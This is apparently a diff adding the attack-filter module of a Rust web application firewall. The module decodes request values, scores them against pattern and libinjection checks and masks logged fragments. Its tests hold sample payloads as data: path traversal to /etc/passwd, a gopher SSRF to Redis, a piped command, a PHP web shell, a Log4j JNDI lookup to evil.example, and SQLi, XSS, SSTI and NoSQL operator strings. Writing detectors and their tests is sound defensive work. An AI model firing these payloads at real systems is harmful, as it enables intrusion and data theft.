@@ -1,0 +1,481 @@
+//! The attack filter: finds SQL injection, XSS, path traversal, remote inclusion and SSRF,
+//! command injection, PHP and Java (JNDI) injection, template injection and NoSQL operator
+//! injection in the path, query, headers, cookies and form or JSON bodies of a request.
+//!
+//! Each value is decoded first ([`decode`]), then read in the canonical forms of the languages
+//! it attacks ([`fold`]), then checked by libinjection's tokenizers ([`structural`]) and by
+//! pattern rules compiled into one regex set per form ([`rules`]). Findings add up to an
+//! anomaly score; a route blocks when the score reaches its threshold. Where things are
+//! looked for lives in [`inputs`]; per-route modes, thresholds and exclusions in [`policy`].
+
+pub mod decode;
+pub mod fold;
+pub mod inputs;
+pub mod policy;
+pub mod rules;
+pub mod structural;
+
+use std::fmt;
+
+use self::rules::{Form, PatternHit, PatternRules};
+
+pub use self::policy::{FilterMode, FilterPolicy};
+
+/// The kinds of attack the filter knows; blocks are counted and excluded by family.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
+pub enum Family {
+    Sqli,
+    Xss,
+    Lfi,
+    Rfi,
+    Rce,
+    Php,
+    Java,
+    Ssti,
+    Nosql,
+}
+
+impl Family {
+    pub const ALL: [Family; 9] = [
+        Family::Sqli,
+        Family::Xss,
+        Family::Lfi,
+        Family::Rfi,
+        Family::Rce,
+        Family::Php,
+        Family::Java,
+        Family::Ssti,
+        Family::Nosql,
+    ];
+
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Family::Sqli => "sqli",
+            Family::Xss => "xss",
+            Family::Lfi => "lfi",
+            Family::Rfi => "rfi",
+            Family::Rce => "rce",
+            Family::Php => "php",
+            Family::Java => "java",
+            Family::Ssti => "ssti",
+            Family::Nosql => "nosql",
+        }
+    }
+
+    pub fn parse(name: &str) -> Option<Family> {
+        Family::ALL.into_iter().find(|f| f.as_str() == name)
+    }
+}
+
+/// Where in the request a value was found.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Location {
+    Path,
+    Query,
+    Header,
+    Cookie,
+    Body,
+}
+
+impl Location {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Location::Path => "path",
+            Location::Query => "query",
+            Location::Header => "header",
+            Location::Cookie => "cookie",
+            Location::Body => "body",
+        }
+    }
+
+    pub fn parse(name: &str) -> Option<Location> {
+        [
+            Location::Path,
+            Location::Query,
+            Location::Header,
+            Location::Cookie,
+            Location::Body,
+        ]
+        .into_iter()
+        .find(|l| l.as_str() == name)
+    }
+}
+
+/// One rule that matched one value.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Finding {
+    pub rule: &'static str,
+    pub family: Family,
+    pub score: u32,
+    pub location: Location,
+    /// Parameter, header or cookie name; the JSON path for JSON bodies.
+    pub name: String,
+    /// The matched text, shortened and with long digit runs masked: enough to see the
+    /// attack in a log, never a whole value that could hold personal data.
+    pub fragment: String,
+}
+
+impl fmt::Display for Finding {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(
+            f,
+            "{} ({}) in {} `{}`: {:?}",
+            self.rule,
+            self.family.as_str(),
+            self.location.as_str(),
+            self.name,
+            self.fragment
+        )
+    }
+}
+
+/// The filter's decision material for one request.
+#[derive(Debug, Default)]
+pub struct Verdict {
+    pub score: u32,
+    pub findings: Vec<Finding>,
+}
+
+impl Verdict {
+    /// The finding with the highest score: the one a log line or an error names.
+    pub fn strongest(&self) -> Option<&Finding> {
+        self.findings.iter().max_by_key(|f| f.score)
+    }
+}
+
+/// The compiled detectors; built once at start and shared by every worker.
+pub struct AttackFilter {
+    patterns: PatternRules,
+}
+
+/// Longest value inspected; longer values are inspected in their first this many bytes
+/// (bodies beyond the route's `max_body` are refused before this point).
+const MAX_VALUE_BYTES: usize = 256 * 1024;
+
+impl AttackFilter {
+    pub fn new() -> Self {
+        Self {
+            patterns: PatternRules::compile(),
+        }
+    }
+
+    /// Checks one value (and its base64 payload, if it is one), adding findings to `verdict`.
+    pub fn inspect(
+        &self,
+        policy: &FilterPolicy,
+        location: Location,
+        name: &str,
+        raw: &str,
+        verdict: &mut Verdict,
+    ) {
+        if is_inert(raw) {
+            return;
+        }
+        let raw = truncate(raw, MAX_VALUE_BYTES);
+        let families = policy.families_for(location, name);
+        if families.is_empty() {
+            return;
+        }
+        self.inspect_text(&families, location, name, raw, verdict);
+        if let Some(payload) = decode::base64_payload(raw) {
+            self.inspect_text(&families, location, name, &payload, verdict);
+        }
+    }
+
+    fn inspect_text(
+        &self,
+        families: &FamilySet,
+        location: Location,
+        name: &str,
+        raw: &str,
+        verdict: &mut Verdict,
+    ) {
+        let decoded = decode::decode(raw);
+        let lower = decoded.to_lowercase();
+        let mut hits: Vec<PatternHit> = Vec::new();
+        let enabled = |family: Family| families.contains(family);
+        self.patterns.scan(Form::Plain, &lower, enabled, &mut hits);
+        let mut record = |hits: &mut Vec<PatternHit>, text: &str| {
+            for hit in hits.drain(..) {
+                verdict.add(Finding {
+                    rule: hit.rule.id,
+                    family: hit.rule.family,
+                    score: hit.rule.score,
+                    location,
+                    name: name.to_owned(),
+                    fragment: mask_fragment(&text[hit.start..hit.end]),
+                });
+            }
+        };
+        record(&mut hits, &lower);
+
+        if families.contains(Family::Sqli) && lower.contains([' ', '/', '+', '\t', '\n']) {
+            let sql = fold::sql(&lower);
+            self.patterns.scan(Form::Sql, &sql, enabled, &mut hits);
+            record(&mut hits, &sql);
+        }
+        if families.contains(Family::Rce) {
+            let shell = fold::shell(&lower);
+            self.patterns.scan(Form::Shell, &shell, enabled, &mut hits);
+            record(&mut hits, &shell);
+        }
+        if families.contains(Family::Xss) && lower.contains("script") {
+            let markup: String = lower
+                .chars()
+                .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+                .collect();
+            self.patterns
+                .scan(Form::Markup, &markup, enabled, &mut hits);
+            record(&mut hits, &markup);
+        }
+        if families.contains(Family::Java) && lower.contains("${") {
+            let lookup = fold::log4j(&lower);
+            self.patterns
+                .scan(Form::Lookup, &lookup, enabled, &mut hits);
+            record(&mut hits, &lookup);
+        }
+        if families.contains(Family::Sqli)
+            && let Some(fingerprint) = structural::sqli(&decoded)
+        {
+            verdict.add(Finding {
+                rule: "sqli-libinjection",
+                family: Family::Sqli,
+                score: 5,
+                location,
+                name: name.to_owned(),
+                fragment: format!("fingerprint {fingerprint}"),
+            });
+        }
+        if families.contains(Family::Xss) && structural::xss(&decoded) {
+            verdict.add(Finding {
+                rule: "xss-libinjection",
+                family: Family::Xss,
+                score: 5,
+                location,
+                name: name.to_owned(),
+                fragment: mask_fragment(&decoded),
+            });
+        }
+    }
+
+    /// Checks a parameter or JSON key name for operator injection (`user[$ne]`, `$where`).
+    pub fn inspect_key(
+        &self,
+        policy: &FilterPolicy,
+        location: Location,
+        path: &str,
+        key: &str,
+        verdict: &mut Verdict,
+    ) {
+        if !policy.families_for(location, path).contains(Family::Nosql) {
+            return;
+        }
+        let operator = key.strip_prefix('$').is_some_and(is_query_operator);
+        if operator || key == "__proto__" {
+            verdict.add(Finding {
+                rule: if operator {
+                    "nosql-operator-key"
+                } else {
+                    "node-prototype-pollution"
+                },
+                family: Family::Nosql,
+                score: 5,
+                location,
+                name: path.to_owned(),
+                fragment: mask_fragment(key),
+            });
+        }
+    }
+}
+
+impl Default for AttackFilter {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl Verdict {
+    /// Adds a finding; a rule counts once per value location and name.
+    pub fn add(&mut self, finding: Finding) {
+        let repeated = self.findings.iter().any(|f| {
+            f.rule == finding.rule && f.location == finding.location && f.name == finding.name
+        });
+        if !repeated {
+            self.score += finding.score;
+            self.findings.push(finding);
+        }
+    }
+}
+
+/// A set of families, as a bit set: the families a policy inspects at one place.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct FamilySet(u16);
+
+impl FamilySet {
+    pub const ALL: FamilySet = FamilySet((1 << Family::ALL.len()) - 1);
+    pub const NONE: FamilySet = FamilySet(0);
+
+    pub fn contains(self, family: Family) -> bool {
+        self.0 & (1 << family as u16) != 0
+    }
+
+    pub fn without(self, family: Family) -> FamilySet {
+        FamilySet(self.0 & !(1 << family as u16))
+    }
+
+    pub fn is_empty(self) -> bool {
+        self.0 == 0
+    }
+}
+
+/// MongoDB query and update operators that only make sense as injected keys.
+fn is_query_operator(name: &str) -> bool {
+    matches!(
+        name,
+        "ne" | "eq"
+            | "gt"
+            | "gte"
+            | "lt"
+            | "lte"
+            | "in"
+            | "nin"
+            | "regex"
+            | "where"
+            | "exists"
+            | "or"
+            | "and"
+            | "not"
+            | "nor"
+            | "expr"
+            | "elemMatch"
+            | "elemmatch"
+            | "type"
+            | "size"
+            | "all"
+            | "function"
+            | "accumulator"
+            | "jsonSchema"
+            | "text"
+            | "mod"
+    )
+}
+
+/// Values made only of letters, digits, `_` and `-` cannot carry any of the attacks here
+/// (base64 payloads aside, which need 16 characters and mixed case).
+fn is_inert(raw: &str) -> bool {
+    raw.len() < 16
+        && raw
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
+}
+
+fn truncate(text: &str, max: usize) -> &str {
+    if text.len() <= max {
+        return text;
+    }
+    let mut end = max;
+    while !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    &text[..end]
+}
+
+/// At most 48 characters of the match, with every run of 4+ digits masked (card and phone
+/// numbers, ids).
+pub fn mask_fragment(text: &str) -> String {
+    let short: String = text.chars().take(48).collect();
+    let mut out = String::with_capacity(short.len());
+    let mut digits = String::new();
+    let flush = |digits: &mut String, out: &mut String| {
+        if digits.len() >= 4 {
+            out.push_str(&"#".repeat(digits.len()));
+        } else {
+            out.push_str(digits);
+        }
+        digits.clear();
+    };
+    for c in short.chars() {
+        if c.is_ascii_digit() {
+            digits.push(c);
+        } else {
+            flush(&mut digits, &mut out);
+            out.push(c);
+        }
+    }
+    flush(&mut digits, &mut out);
+    if text.chars().count() > 48 {
+        out.push('…');
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn findings(value: &str) -> Vec<&'static str> {
+        let filter = AttackFilter::new();
+        let mut verdict = Verdict::default();
+        filter.inspect(
+            &FilterPolicy::default(),
+            Location::Query,
+            "q",
+            value,
+            &mut verdict,
+        );
+        verdict.findings.iter().map(|f| f.rule).collect()
+    }
+
+    #[test]
+    fn inert_values_are_skipped() {
+        assert!(is_inert("hello-world_42"));
+        assert!(!is_inert("a b"));
+        assert!(!is_inert("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"));
+    }
+
+    #[test]
+    fn fragments_are_short_and_mask_numbers() {
+        assert_eq!(
+            mask_fragment("card 4111111111111111"),
+            "card ################"
+        );
+        assert_eq!(mask_fragment("or 1=1"), "or 1=1");
+        assert!(mask_fragment(&"x".repeat(100)).ends_with('…'));
+    }
+
+    #[test]
+    fn base64_wrapped_attacks_are_found() {
+        // `<script>alert(1)</script>`
+        assert!(findings("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==").contains(&"xss-script-tag"));
+    }
+
+    #[test]
+    fn each_family_has_a_detector() {
+        let cases = [
+            ("1' or '1'='1", Family::Sqli),
+            ("<svg onload=alert(1)>", Family::Xss),
+            ("../../../../etc/passwd", Family::Lfi),
+            ("gopher://127.0.0.1:6379/_INFO", Family::Rfi),
+            ("127.0.0.1|id", Family::Rce),
+            ("<?php system($_GET['c']); ?>", Family::Php),
+            ("${${lower:j}ndi:ldap://evil.example/a}", Family::Java),
+            ("{{7*7}}", Family::Ssti),
+            ("{\"$ne\": null}", Family::Nosql),
+        ];
+        let filter = AttackFilter::new();
+        for (value, family) in cases {
+            let mut verdict = Verdict::default();
+            filter.inspect(
+                &FilterPolicy::default(),
+                Location::Query,
+                "q",
+                value,
+                &mut verdict,
+            );
+            assert!(
+                verdict.score >= 5 && verdict.findings.iter().any(|f| f.family == family),
+                "{value}: {verdict:?}"
+            );
+        }
+    }
+}
